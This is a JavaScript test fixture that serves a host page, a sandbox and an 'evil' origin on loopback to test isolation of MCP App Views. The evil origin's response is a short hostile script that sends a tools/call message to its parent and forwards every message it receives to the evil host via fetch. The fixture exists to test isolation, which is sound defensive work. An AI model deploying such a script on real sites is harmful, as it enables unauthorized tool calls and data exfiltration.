// Three origins on the loopback interface: a page that hosts Views, the sandbox, and one that should never be reached.

import { join } from "node:path";
import { build } from "esbuild";
import { sandboxPage } from "mcp-duet/apps/host";
import { installed } from "../../scripts/link.mjs";
import { serve } from "../../scripts/serve.mjs";
import { root } from "../../scripts/workspace.mjs";

/** The page's module: mounts Views of a server in the page and remembers what it is asked. */
const WORLD = `
import { Client } from "/pkg/client.web.js";
import { Server } from "/pkg/server.web.js";
import { inMemoryPair, serveMessages } from "/pkg/transport.js";
import * as host from "/pkg/apps/host.web.js";

const seen = [];
const answers = {};
const traffic = [];
addEventListener("message", ({ data, origin }) => traffic.push({ origin, method: data?.method, id: data?.id, data }));

const record = (name) => (argument) => {
	seen.push([name, argument]);
	const answer = answers[name];
	return typeof answer === "function" ? answer(argument) : answer;
};

const schema = { type: "object" };
const text = (value) => ({ content: [{ type: "text", text: value }] });

function makeServer({ html, meta, listMeta, ui, blob, server: more }) {
	const server = new Server({
		name: "world", version: "1", capabilities: { tools: { listChanged: true } }, ...more,
		tools: [
			{ name: "show", description: "Shows the View", inputSchema: schema, _meta: { ui: { resourceUri: "ui://world/view", ...ui } }, handler: () => text("shown") },
			{ name: "add", inputSchema: schema, handler: ({ a, b }, ctx) => { record("add")({ a, b }); return { content: [], structuredContent: { sum: a + b }, _meta: { "x/y": ctx.meta?.["x/y"] } }; } },
			{ name: "secret", inputSchema: schema, _meta: { ui: { visibility: ["model"] } }, handler: () => { record("secret")(); return text("secret"); } },
			{ name: "internal", inputSchema: schema, _meta: { ui: { visibility: ["app"] } }, handler: () => text("internal") },
			{ name: "slow", inputSchema: schema, handler: async (args, ctx) => {
				ctx.sendProgress(1, 2, "half");
				await new Promise((done) => ctx.signal.addEventListener("abort", () => { record("aborted")(); done(); }));
				return text("late");
			} },
			{ name: "steps", inputSchema: schema, handler: async (args, ctx) => { ctx.sendProgress(1, 3, "one"); ctx.sendProgress(2, 3, "two"); return text("done"); } },
		],
		resources: [
			{ uri: "ui://world/view", name: "view", mimeType: "text/html;profile=mcp-app", ...(listMeta && { _meta: listMeta }),
				read: () => ({ contents: [{ uri: "ui://world/view", mimeType: "text/html;profile=mcp-app", ...(blob ? { blob } : { text: html }), ...(meta && { _meta: meta }) }] }) },
			{ uri: "data://world/x", name: "x", mimeType: "text/plain", read: () => "the data" },
		],
	});
	return server;
}

async function world(setup) {
	const server = makeServer(setup);
	const requests = [];
	// A pipe is a session of a legacy client, which a server can tell something.
	let pipe;
	if (setup.pipe) {
		const [near, far] = inMemoryPair();
		serveMessages(server, far);
		pipe = near;
	}
	const client = new Client({
		clientInfo: { name: "host", version: "1" },
		capabilities: host.APPS_CAPABILITIES,
		...(setup.era === "legacy" ? { versionNegotiation: "legacy" } : {}),
		...setup.client,
		...(setup.http
			? { url: "/mcp", fetch: (url, init) => { requests.push(JSON.parse(init.body)); return server.fetch(new Request(url, init)); } }
			: { transport: pipe ?? ((message, { signal, onMessage }) => {
			requests.push(message);
			return server.handleMessage(message, { signal, send: onMessage });
		}) }),
	});
	await client.connect();
	const { tools } = await client.listTools();
	return { server, client, tools, requests, tool: tools.find(({ name }) => name === "show") };
}

const mounted = [];
async function mount(made, options = {}) {
	const container = document.createElement("div");
	container.style.width = "600px";
	document.body.append(container);
	const handlers = {};
	for (const name of ["onOpenLink", "onDownloadFile", "onMessage", "onUpdateModelContext", "onRequestDisplayMode", "onSizeChanged", "onLog", "onRequestTeardown", "onToolsChanged", "onWarning"])
		handlers[name] = record(name);
	handlers.onError = (error) => { seen.push(["onError", error.message]); };
	const app = await host.mountApp({ client: made.client, tool: made.tool, container, sandbox: SANDBOX_URL, ...handlers, ...options });
	mounted.push(app);
	return { ...made, app, container };
}
Object.assign(globalThis, { host, Client, Server, seen, answers, traffic, world, mount, mounted });
globalThis.ready = true;
`;

/** The official clients that a page can import. */
const SDK_CLIENTS = {
	"sdk-2": "@modelcontextprotocol/client",
	"sdk-1": "@modelcontextprotocol/sdk/client/index.js",
};

/** @param {string} source of a module @returns {Promise<string>} the same with everything that it imports */
async function bundle(source) {
	const { outputFiles } = await build({
		stdin: { contents: source, resolveDir: join(root, "tests"), loader: "js" },
		...{ bundle: true, minify: true, format: "esm", target: "es2022", write: false, logLevel: "error" },
	});
	return outputFiles[0].text;
}

/** @param {{ headers?: boolean }} [options] */
export async function openWorld({ headers = true } = {}) {
	/** @type {string[]} */
	const evil = [];
	const bad = await serve({
		answer: (url) => {
			evil.push(url.pathname);
			const body = `<script>parent.postMessage({ jsonrpc: "2.0", id: 99, method: "tools/call", params: { name: "add", arguments: { a: 1, b: 1 } } }, "*");
addEventListener("message", (event) => fetch("/got?" + encodeURIComponent(JSON.stringify(event.data))));</script>`;
			return { status: 200, headers: { "content-type": "text/html", "access-control-allow-origin": "*" }, body };
		},
	});
	/** @type {string} */
	let hostOrigin = "";
	const sandbox = await serve({
		folders: { "/static/": join(installed, "apps") },
		answer: async (url) => {
			if (url.pathname !== "/sandbox") return undefined;
			const page = await sandboxPage(url, { hosts: [hostOrigin] });
			return { status: 200, headers: headers ? page.headers : { "content-type": "text/html" }, body: page.html };
		},
	});
	const sandboxUrl = sandbox.url.replace("127.0.0.1", "localhost");
	const bundles = Object.entries(SDK_CLIENTS).map(async ([name, from]) => [
		`/${name}.js`,
		await bundle(`export { Client } from "${from}";`),
	]);
	const site = await serve({
		folders: { "/pkg/": installed },
		pages: {
			"/": '<!doctype html><link rel="icon" href="data:,"><title>host</title><body><script type="module" src="/world.js"></script>',
			...Object.fromEntries(await Promise.all(bundles)),
			"/world.js": WORLD.replace("SANDBOX_URL", JSON.stringify(`${sandboxUrl}/sandbox`)),
		},
	});
	hostOrigin = site.url;
	return {
		url: `${site.url}/`,
		sandboxUrl,
		evilUrl: bad.url,
		evil,
		stop: async () => {
			await Promise.all([site.stop(), sandbox.stop(), bad.stop()]);
		},
	};
}

/**
 * A View's document whose module is the source given, with what it imports in it.
 * @param {string} source
 * @param {{ head?: string, body?: string }} [more]
 */
export async function viewOf(source, { head = "", body = "" } = {}) {
	const script = (await bundle(source)).replaceAll("</script", "<\\/script");
	return `<!doctype html><meta charset="utf-8"><title>view</title>${head}<body>${body}<script type="module">${script}</script>`;
}

/** A View on the real library of that name, which puts what it hears into \`heard\` and itself into \`app\`. @param {string} library */
export const realView = (library, more = "") =>
	viewOf(`
import { App } from ${JSON.stringify(library)};
const heard = [];
const raw = [];
addEventListener("message", ({ data }) => raw.push(data));
const app = new App({ name: "real", version: "1" }, { availableDisplayModes: ["inline", "fullscreen"] }, { autoResize: true });
for (const [name, method] of [["input", "ontoolinput"], ["partial", "ontoolinputpartial"], ["result", "ontoolresult"], ["cancelled", "ontoolcancelled"], ["context", "onhostcontextchanged"]])
	app[method] = (params) => { heard.push([name, params]); };
app.onerror = (error) => { heard.push(["error", String(error.message)]); };
Object.assign(globalThis, { app, heard, raw, App });
${more}
globalThis.connected = app.connect().then(() => "connected", (error) => "failed: " + error.message);
document.body.append("A View");
`);

/** The frame of a View: the innermost one. @param {import("playwright-core").Page} page @param {number} [count] how many Views there are */
export async function viewFrame(page, count = 1) {
	for (let tries = 0; tries < 400; tries++) {
		const inner = page.frames().filter((frame) => !frame.isDetached() && frame.parentFrame()?.parentFrame());
		if (inner.length >= count) return inner[count - 1];
		await new Promise(
			(done) =>
				page.once("frameattached", () => done(undefined)).once("framenavigated", () => done(undefined)) &&
				setTimeout(done, 50),
		);
	}
	throw new Error("there is no View");
}
